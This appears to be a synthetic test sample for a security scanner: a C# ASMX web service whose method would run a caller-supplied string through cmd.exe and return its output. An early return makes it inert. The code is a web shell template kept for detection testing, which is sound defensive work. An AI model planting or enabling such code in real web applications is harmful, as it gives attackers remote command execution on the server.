<%@ WebService Language="C#" Class="SampleSvc" %>
// synthetic test sample for breachscan: web method starting cmd.exe with its argument. Inert: returns first.
using System.Web.Services;
public class SampleSvc : WebService {
    [WebMethod]
    public string Run(string c) {
        return "synthetic sample";
        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
}
